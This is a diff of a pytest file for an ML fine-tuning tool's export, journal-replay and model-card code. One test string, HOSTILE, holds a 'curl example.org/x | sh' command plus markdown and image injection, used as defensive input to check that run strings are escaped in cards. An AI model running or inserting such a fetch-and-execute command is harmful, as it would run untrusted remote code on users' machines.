@@ -3,10 +3,10 @@
 from __future__ import annotations
 
 import json
-import pkgutil
 import re
 import shutil
 import subprocess
+import sys
 import tracemalloc
 import zlib
 from dataclasses import replace
@@ -14,17 +14,16 @@ from dataclasses import replace
 import pytest
 import torch
 import yaml
+from assets import REPOSITORY
 from commands import assert_one_error, run_forked, run_forked_well
-from own_data import own_values, write_chat_model
 from run_ends import STEP, digest_after, results_of
+from safetensors.torch import load_file
 from transformers import AutoModelForCausalLM
 
 from lezo_ds.checkpoints.snapshots import read_manifest
-from lezo_ds.config import load_config
 from lezo_ds.errors import JournalError, UserError
 from lezo_ds.journal import encode_journal, read_journal
-from lezo_ds.runs import export as exporting
-from lezo_ds.runs.export import own_texts, read_file
+from lezo_ds.runs.export import read_file
 from lezo_ds.runs.model_card import model_card
 from lezo_ds.runs.opening import restore
 from lezo_ds.runs.records import read_run
@@ -65,149 +64,69 @@ def test_an_exported_model_scores_as_its_run_and_keeps_its_dtype(finished, recip
     assert weights_sha256(tmp_path / "model") in (tmp_path / "model" / "README.md").read_text()
 
 
-def test_no_key_that_decides_the_weights_changes_an_export_or_an_evaluation(finished, tmp_path):
-    run = ["--run", finished, "--step", "2"]
-    for program, words in (("export", ["--out", tmp_path / "model"]), ("evaluate", ["--json"])):
-        refused = run_forked([*run, *words, "zo.noise_rank=1"], program=program)
-        assert_one_error(refused, 2, "zo.noise_rank of run", "is 0 and cannot be 1")
-    assert not (tmp_path / "model").exists()
-
-
-@pytest.mark.parametrize("settings", [None, {"eos_token_id": 1, "top_k": 7}])
-def test_generate_of_an_exported_chat_differs_in_the_end_of_a_turn_alone(settings, tmp_path):
-    model = write_chat_model(tmp_path / "base")
-    config = json.loads((model / "config.json").read_text())
-    config |= {"bos_token_id": 5, "pad_token_id": 7, "eos_token_id": 1}
-    (model / "config.json").write_text(json.dumps(config))
-    (model / "generation_config.json").unlink(missing_ok=True)
-    if settings is not None:
-        (model / "generation_config.json").write_text(json.dumps(settings))
-    values = own_values(model, train=str(tmp_path / "chats.jsonl"), messages="turns")
-    (tmp_path / "recipe.yaml").write_text(yaml.safe_dump(values))
-    texts = own_texts(load_config(tmp_path / "recipe.yaml", [f"run_dir={tmp_path}"]))
-    before = AutoModelForCausalLM.from_pretrained(model).generation_config.to_diff_dict()
-    for name, text in texts.items():
-        (model / name).write_text(text)
-    after = AutoModelForCausalLM.from_pretrained(model).generation_config.to_diff_dict()
-    assert list(texts) == ["generation_config.json"]
-    assert after.pop("eos_token_id") == [1, 2]
-    assert before.pop("eos_token_id") == 1
-    before.pop("_from_model_config", None)
-    chosen = {name: value for name, value in after.items() if value is not False}
-    assert chosen == before
-
-
 def weights_sha256(model):
     """Return the digest that the card of a model states, from the command that it names."""
     command = ["bash", "-c", "sha256sum *.safetensors | sha256sum"]
     return subprocess.run(command, cwd=model, capture_output=True, text=True).stdout.split()[0]
 
 
-def test_a_journal_and_the_base_model_give_the_tuned_model_bit_for_bit(
-    finished, journal, recipe, tmp_path
-):
+def test_a_journal_and_the_base_give_the_tuned_model(finished, journal, recipe, tmp_path):
     base = shutil.copytree(recipe.parent / "model", tmp_path / "base")
     text, config = journal.read_text(), read_journal(journal)[0].config
     assert str(recipe.parent) not in text
     assert (config["data"]["path"], config["seed"]) == ("data", 0)
     assert read_journal(journal)[0].arithmetic["processor"]
     assert str(finished.parent) not in text
-    for step, digest in (
-        ("best", results_of(finished)["weights_digest"]),
-        ("4", digest_after(finished, 4)),
-    ):
-        arguments = [
-            "--journal",
-            journal,
-            "--step",
-            step,
-            "--out",
-            tmp_path / step,
-            f"model.path={base}",
-        ]
-        done = export(*arguments, num_ranks=2)
+    source, base = ["--journal", journal, f"model.path={base}"], tmp_path / "4"
+    digests = {"best": results_of(finished)["weights_digest"], "4": digest_after(finished, 4)}
+    for step, digest in digests.items():
+        done = export(*source, "--step", step, "--out", tmp_path / step, num_ranks=2)
         assert "(the same as in the run)" in done.err
         assert read_manifest(tmp_path / step)["digest"] == digest
-    third = ["--journal", journal, "--step", "3", f"model.path={base}", "--out"]
-    assert_one_error(
-        export(*third, tmp_path / "4", runner=run_forked), 2, f"{tmp_path / '4'} exists"
-    )
-    done = export(*third, tmp_path / "3")
-    assert "no digest in the run to compare with" in done.err
-    assert read_manifest(tmp_path / "3")["step"] == 3
+    third = [*source, "--step", "3", "--out"]
+    assert_one_error(export(*third, base, runner=run_forked), 2, f"{base} exists")
+    assert "no digest in the run to compare with" in export(*third, tmp_path / "3").err
 
 
-def rewritten(
-    journal, target, change_config=lambda config: config, change_record=lambda record: record
-):
-    header, records, _ = read_journal(journal)
-    header = replace(header, config=change_config(json.loads(json.dumps(header.config))))
-    target.write_bytes(encode_journal(header, [change_record(record) for record in records]))
-    return target
+@pytest.fixture
+def from_file(journal, recipe, tmp_path):
+    """Export from a changed journal: (its lines, a function of the lines kept)."""
+    base = f"model.path={recipe.parent / 'model'}"
+
+    def refused(content):
+        changed = tmp_path / "changed.lezo"
+        changed.write_bytes(content)
+        words = ["--journal", changed, "--step", "last", "--out", tmp_path / "model", base]
+        return export(*words, runner=run_forked)
+
+    return journal.read_bytes().splitlines(keepends=True), refused
 
 
 @pytest.mark.thorough
-def test_a_journal_that_was_cut_short_is_refused(journal, recipe, tmp_path):
-    lines = journal.read_bytes().splitlines(keepends=True)
-    of_step_5 = b'{"kind":"step","step":5,'
-    begins_step_5 = [line.startswith(of_step_5) for line in lines]
-    cuts = {
-        "whole lines": lines[: begins_step_5.index(True)],
-        "half a line": [*lines[:-1], lines[-1][:-20]],
-    }
-    base = f"model.path={recipe.parent / 'model'}"
-    for name, kept in cuts.items():
-        cut = tmp_path / f"{name}.lezo"
-        cut.write_bytes(b"".join(kept))
+def test_a_journal_that_was_cut_short_is_refused(from_file):
+    lines, refused = from_file
+    is_step_5 = [line.startswith(b'{"kind":"step","step":5,') for line in lines]
+    half_a_line = [*lines[:-1], lines[-1][:-20]]
+    for kept in (lines[: is_step_5.index(True)], half_a_line):
         num_steps = sum(line.startswith(b'{"kind":"step"') for line in kept)
-        message = f"{cut} was cut short: it ends after {num_steps} steps"
-        refused = export("--journal", cut, "--out", tmp_path / name, base, runner=run_forked)
-        assert_one_error(refused, 3, message, "copy it again")
+        message = f"was cut short: it ends after {num_steps} steps"
+        assert_one_error(refused(b"".join(kept)), 3, message, "copy it again")
 
 
-def test_a_journal_of_another_table_of_parameters_is_refused(journal, recipe, tmp_path):
+def test_a_forged_journal_does_not_pass_for_the_run(journal, from_file, tmp_path):
+    _, refused = from_file
     header, records, _ = read_journal(journal)
-    forged = tmp_path / "forged.lezo"
-    forged.write_bytes(encode_journal(replace(header, parameter_table_hash="0" * 32), records))
-    base = f"model.path={recipe.parent / 'model'}"
-    refused = export("--journal", forged, "--out", tmp_path / "model", base, runner=run_forked)
-    assert_one_error(refused, 2, "is not the base model of the run", "parameters' names")
-
-
-def test_a_journal_whose_steps_were_changed_does_not_pass_for_the_run(journal, recipe, tmp_path):
-    def forge(record):
-        is_last = isinstance(record, StepRecord) and record.step == 7
-        return replace(record, learning_rate=2e-3) if is_last else record
-
-    forged = rewritten(journal, tmp_path / "forged.lezo", change_record=forge)
-    base = f"model.path={recipe.parent / 'model'}"
-    arguments = ["--journal", forged, "--step", "last", "--out", tmp_path / "model", base]
-    refused = export(*arguments, runner=run_forked)
-    assert_one_error(refused, 1, "the weights of step 8 have the digest", "those of the run had")
+    other = encode_journal(replace(header, parameter_table_hash="0" * 32), records)
+    assert_one_error(refused(other), 2, "is not the base model of the run", "parameters' names")
+    (place,) = [
+        place
+        for place, record in enumerate(records)
+        if isinstance(record, StepRecord) and record.step == 7
+    ]
+    records[place] = replace(records[place], learning_rate=2e-3)
+    forged = refused(encode_journal(header, records))
+    assert_one_error(forged, 1, "the weights of step 8 have the digest", "those of the run had")
     assert not (tmp_path / "model").exists()
-
-
-CODE_KEYS = {
-    "data": {"task": "evil:X", "metric": "evil:X"},
-    "train": {"objective": "evil:X", "report_to": ["wandb"]},
-    "zo": {"estimator": "evil:X", "layer_policy": "evil:X"},
-}
-
-
-def test_a_journal_runs_no_code_and_opens_no_path_that_it_names(journal, recipe, tmp_path):
-    def spoil(config):
-        for section, values in CODE_KEYS.items():
-            config[section] |= values
-        config["data"] |= {"train": "/dev/zero", "path": None}
-        return config | {"deepspeed": str(tmp_path / "absent.json"), "partition_size": 3}
-
-    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'executed')!r}, 'w')\nX = None\n")
-    spoiled = rewritten(journal, tmp_path / "spoiled.lezo", change_config=spoil)
-    path = f"{exporting.__file__.rpartition('/lezo_ds/')[0]}:{tmp_path}"
-    base = f"model.path={recipe.parent / 'model'}"
-    export("--journal", spoiled, "--out", tmp_path / "model", base, PYTHONPATH=path)
-    assert read_manifest(tmp_path / "model") is not None
-    assert not (tmp_path / "executed").exists()
 
 
 def with_lines(*bodies):
@@ -222,9 +141,8 @@ def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, rec
     whole = journal.read_bytes()
     first = re.sub(rb',"crc":"\w+"}$', b"}", whole.splitlines()[0])
     header = json.loads(first)
-    evaluation = b'{"kind":"evaluation","step":0,"split":"dev","loss":1%s,"metrics":{}}' % (
-        b"0" * 400
-    )
+    evaluation = b'{"kind":"evaluation","step":0,"split":"dev","loss":1'
+    evaluation += b"0" * 400 + b',"metrics":{}}'
 
     def with_header(**changes):
         return with_lines(json.dumps(header | changes, separators=(",", ":")).encode())
@@ -236,40 +154,24 @@ def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, rec
     del step["crc"]
 
     def with_steps(*changes, end=b""):
-        changed = [
-            step | {"step": number, "key": 1} | change for number, change in enumerate(changes)
-        ]
-        return (
-            with_lines(
-                first, *(json.dumps(each, separators=(",", ":")).encode() for each in changed)
-            )
-            + end
-        )
+        steps = [step | {"step": number, "key": 1} | each for number, each in enumerate(changes)]
+        lines = [json.dumps(each, separators=(",", ":")).encode() for each in steps]
+        return with_lines(first, *lines) + end
 
     files = {
-        "empty": b"",
-        "flipped": whole[:3000] + bytes([whole[3000] ^ 1]) + whole[3001:],
         "deep": with_lines(b'{"kind":"header","config":' + b"[" * 50_000 + b"}"),
         "large number": with_lines(first, evaluation),
         "types": with_header(config=[1], libraries=[], model_fingerprint=[]),
         "model config": with_header(config=header["config"] | {"model_config": [1]}),
-        "digests": with_header(config=header["config"] | {"digests": [1]}),
         "rank": with_keys("peft", kind="lora", lora_rank=2**16),
         "prefix": with_keys("peft", kind="prefix", prefix_length=2**62),
         "batch": with_keys("train", batch_size=2**32),
         "directions": with_keys("zo", directions=2**40),
         "more gradients than directions": with_steps({}, {"gradients": [1.0] * 2}),
         "more blocks than the model": with_steps({"dropped": [0, 99]}),
-        "a block twice": with_steps({"dropped": [1, 1]}),
         "more weights than blocks": with_steps({"weights": [1.0] * 7}),
-        "a weight for each block alone": with_steps({"weights": [1.0] * 4}),
         "a truth value as a gradient": with_steps({"gradients": [True]}),
-        "a truth value as a loss": with_steps({"loss": False}),
-        "a word as a truth value": with_steps({"applied": "no"}),
         "other types": with_steps({"dropped": "12"}),
-        "long names": with_keys(
-            "model_config", **{"k" * 100_000: {str(n): 0 for n in range(10_000)}}
-        ),
         "many lists": with_lines(first, b'{"kind":"step","x":[' + b"[]," * 80_000 + b"[]]}"),
         "many steps": with_steps(*[{}] * 10_000, end=b"\n"),
         "long line": with_lines(b'{"kind":"header","config":{"a":"%s"}}' % (b"x" * (2 << 20))),
@@ -296,31 +198,8 @@ def test_a_run_is_not_restored_without_the_adapter_that_it_started_from(finished
         restore(replace(run, journal=run.journal._replace(header=started)), 0)
 
 
-def card_of(config, **options):
-    return model_card(
-        config, "a title", "It was made.", [("test", "step 0", "x")], "sha", **options
-    )
-
-
-def test_a_card_loads_an_adapter_into_its_base_model(finished):
-    config = read_run(finished).config
-    base = 'AutoModelForCausalLM.from_pretrained("model")'
-    assert f'`PeftModel.from_pretrained({base}, "DIR")`' in card_of(config, kind="lora")
-    function = pkgutil.resolve_name("lezo_ds.forward.adapters.load_prefix")  # peft reads no prefix
-    line = f'model = {base}; lezo_ds.forward.adapters.{function.__name__}(model, Path("DIR"))'
-    assert f"`{line}`" in card_of(config, kind="prefix")
-    model = config.model.model_copy(update={"path": "owner/name@v1.2"})
-    text = card_of(config.model_copy(update={"model": model}), kind="lora")
-    assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
-    other = card_of(config, opened_by="AutoModelForMultimodalLM")
-    assert '`AutoModelForMultimodalLM.from_pretrained("DIR")`' in other
-    assert "AutoModelForCausalLM" not in other
-    assert "pipeline_tag" not in other
-
-
 LICENSED = """---
 license: other
-license_name: some-license
 license_link: https://example.org/license
 tags: [x]
 ---
@@ -328,55 +207,40 @@ tags: [x]
 """
 
 
-def header_of(card):
-    _, header, _ = card.split("---\n", 2)
-    return yaml.safe_load(header)
-
-
-def test_the_header_of_a_card_has_what_the_hub_reads(finished, tmp_path):
+@pytest.mark.parametrize(
+    ("of_base", "license_keys"),
+    [
+        (LICENSED, {"license": "other", "license_link": "https://example.org/license"}),
+        ("---\nlicense: [\n---\n", {}),
+        ("# A title\n---\nsee the license\n---\n", {}),
+    ],
+)
+def test_a_card_has_what_the_hub_reads(of_base, license_keys, finished, tmp_path):
     config = read_run(finished).config
     sections = {
-        "model": {"path": "owner/name@main"},
+        "model": {"path": "owner/name@v1.2"},
         "data": {"path": None, "train": "some/data/config:train", "test": "some/data:test"},
         "peft": {"kind": "lora", "lora_rank": 20},
     }
     changed = {
         name: getattr(config, name).model_copy(update=changes) for name, changes in sections.items()
     }
-    (tmp_path / "README.md").write_text(LICENSED)
-    card = card_of(config.model_copy(update=changed), kind="lora", license_of=tmp_path)
-    assert header_of(card) == {
+    (tmp_path / "README.md").write_text(of_base)
+    of_run = [("test", "step 0", "x")]
+    options = {"kind": "lora", "license_of": tmp_path}
+    card = model_card(
+        config.model_copy(update=changed), "a title", "It was made.", of_run, "sha", **options
+    )
+    _, header, text = card.split("---\n", 2)
+    assert yaml.safe_load(header) == license_keys | {
         "base_model": "owner/name",
         "datasets": "some/data",
         "library_name": "peft",
-        "license": "other",
-        "license_name": "some-license",
-        "license_link": "https://example.org/license",
         "pipeline_tag": "text-generation",
         "tags": ["lezo_ds"],
     }
-    options = "--enable-lora --max-lora-rank 32 --lora-modules tuned=DIR"
-    assert f"`vllm serve owner/name {options}`" in card
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "# No header",
-        "---\nlicense: [\n---\n",
-        "---\n- 1\n---\n",
-        "---\n---\n# An empty header",
-        "# A title\n---\nsee the license\n---\n",
-    ],
-)
-def test_a_card_of_the_base_without_a_license_leaves_it_out(finished, tmp_path, text):
-    (tmp_path / "README.md").write_text(text)
-    header = header_of(card_of(read_run(finished).config, license_of=tmp_path))
-    assert header == {
-        "library_name": "transformers",
-        "pipeline_tag": "text-generation",
-        "tags": ["lezo_ds"],
-    }
+    assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
+    assert "`vllm serve owner/name --enable-lora --max-lora-rank 32 --lora-modules" in text
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
@@ -396,3 +260,25 @@ def test_no_string_of_a_run_becomes_markup_in_its_card(finished, tmp_path):
     )
     assert "curl" in hostile
     assert not re.search(r"\]\(http|<img|```|\| sh\b", hostile)
+
+
+LOW_RANK = ["zo.noise_rank=2", "zo.examples_per_direction=4", "zo.estimator=grzo"]
+
+
+def test_a_program_of_numpy_replays_a_journal_of_low_rank_from_the_page_alone(recipe, tmp_path):
+    run_dir, exported, replayed = (tmp_path / name for name in ("run", "exported", "replayed"))
+    keys = [*LOW_RANK, "zo.weight_decay=1", "train.steps=4", "train.snapshot_every=0"]
+    run_forked_well(["--config", recipe, f"run_dir={run_dir}", *keys])
+    export("--run", run_dir, "--step", "last", "--out", exported)
+    base = recipe.parent / "model" / "model.safetensors"
+    program = REPOSITORY / "tests" / "helpers" / "page_replay.py"
+    command = [sys.executable, program, run_dir / "journal.jsonl", base, replayed]
+    subprocess.run(command, check=True)
+    ours = {}
+    for file in exported.glob("*.safetensors"):
+        ours |= load_file(file)
+    start, changed = load_file(base), 0
+    for name, weights in load_file(replayed).items():
+        assert torch.equal(weights, ours[name]), name
+        changed += not torch.equal(weights, start[name])
+    assert changed >= 6 * 4 - 6  # the matrices of four blocks, of which a step may drop one
